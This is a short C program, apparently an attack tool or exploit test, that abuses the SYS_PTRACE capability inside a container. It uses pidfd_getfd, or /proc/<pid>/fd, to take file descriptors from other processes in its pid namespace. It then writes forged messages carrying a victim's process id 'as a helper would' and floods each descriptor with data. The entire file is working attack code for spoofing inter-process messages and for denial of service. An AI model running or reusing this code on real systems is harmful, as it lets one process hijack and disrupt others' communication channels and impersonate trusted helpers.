// Takes, as a container with SYS_PTRACE may, the descriptors of every process that appears in its pid namespace, and writes to them:
// the process id of its argument as a helper would, and a flood. Prints how many processes it has written to.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(int argc, char **argv) {
    int victim = atoi(argv[argc - 1]), last = getpid(), written = 0;
    char word[5] = "P", flood[65536], path[64];
    memcpy(word + 1, &victim, 4);
    memset(flood, 'x', sizeof flood);
    signal(SIGPIPE, SIG_IGN);
    setvbuf(stdout, NULL, _IONBF, 0);
    printf("0\n");
    for (;;) {
        int next = last + 1;
        while (kill(next, 0) && next < last + 50) next++;
        if (kill(next, 0)) continue;
        last = next;
        int process = syscall(SYS_pidfd_open, next, 0), before = written;
        for (int fd = 3; fd < 12; fd++) {
            snprintf(path, sizeof path, "/proc/%d/fd/%d", next, fd);
            int taken = syscall(SYS_pidfd_getfd, process, fd, 0);
            if (taken < 0) taken = open(path, O_WRONLY | O_NONBLOCK);
            if (taken < 0) continue;
            fcntl(taken, F_SETFL, O_NONBLOCK);
            if (write(taken, word, 5) == 5) written = before + 1;
            for (int n = 0; n < 64 && write(taken, flood, sizeof flood) > 0; n++);
            // Kept open: its end says nothing.
        }
        close(process);
        if (written != before) printf("%d\n", written);
        if (written > 200) close_range(3, ~0U, 0);
    }
}
